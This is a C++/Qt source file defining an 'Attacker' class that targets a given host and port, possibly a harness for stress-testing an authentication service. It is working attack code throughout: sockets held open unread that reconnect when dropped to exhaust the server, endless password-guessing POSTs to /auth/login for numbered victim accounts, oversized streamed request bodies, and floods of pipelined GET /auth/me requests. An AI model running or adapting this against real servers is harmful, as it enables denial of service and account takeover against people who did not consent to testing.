#include "Attacker.h"

#include <QNetworkReply>
#include <QNetworkRequest>
#include <QUrl>

namespace {
constexpr qint64 chunkBytes = 64 * 1024;
}

Attacker::Attacker(QString host, quint16 port) : m_host(std::move(host)), m_port(port) {}

QTcpSocket* Attacker::connectSocket() {
    m_sockets.push_back(std::make_unique<QTcpSocket>());
    QTcpSocket* socket = m_sockets.back().get();
    // Whatever the server answers stays unread in the system's buffers.
    socket->setReadBufferSize(1);
    socket->connectToHost(m_host, m_port);
    return socket;
}

void Attacker::holdIdle(int count) {
    for (int i = 0; i < count; ++i) {
        QTcpSocket* socket = connectSocket();
        connect(socket, &QTcpSocket::disconnected, this,
                [this, socket] { socket->connectToHost(m_host, m_port); });
    }
}

void Attacker::guess(int clients) {
    for (int client = 0; client < clients; ++client) {
        guessOnce(client);
    }
}

void Attacker::guessOnce(int client) {
    QNetworkRequest request(
        QUrl(QStringLiteral("http://%1:%2/auth/login").arg(m_host).arg(m_port)));
    request.setHeader(QNetworkRequest::ContentTypeHeader, QByteArrayLiteral("application/json"));
    QNetworkReply* reply =
        m_network.post(request, "{\"email\":\"victim" + QByteArray::number(client) +
                                    "@x.io\",\"password\":\"guess1\"}");
    connect(reply, &QNetworkReply::finished, this, [this, reply, client] {
        reply->deleteLater();
        guessOnce(client);
    });
}

void Attacker::upload(qint64 bytes) {
    QTcpSocket* socket = connectSocket();
    socket->write("POST /auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  "Content-Length: " +
                  QByteArray::number(bytes) + "\r\n\r\n");
    const QByteArray chunk(chunkBytes, 'a');
    const auto feed = [socket, chunk, left = std::make_shared<qint64>(bytes)] {
        while (*left > 0 && socket->bytesToWrite() < 4 * chunkBytes) {
            socket->write(chunk.left(std::min(*left, chunkBytes)));
            *left -= chunkBytes;
        }
    };
    connect(socket, &QTcpSocket::bytesWritten, this, feed);
    feed();
}

void Attacker::pipeline() {
    QTcpSocket* socket = connectSocket();
    QByteArray batch;
    for (int i = 0; i < 1000; ++i) {
        batch += "GET /auth/me HTTP/1.1\r\nHost: x\r\n\r\n";
    }
    const auto feed = [socket, batch] {
        while (socket->bytesToWrite() < 4 * chunkBytes) {
            socket->write(batch);
        }
    };
    connect(socket, &QTcpSocket::bytesWritten, this, feed);
    feed();
}
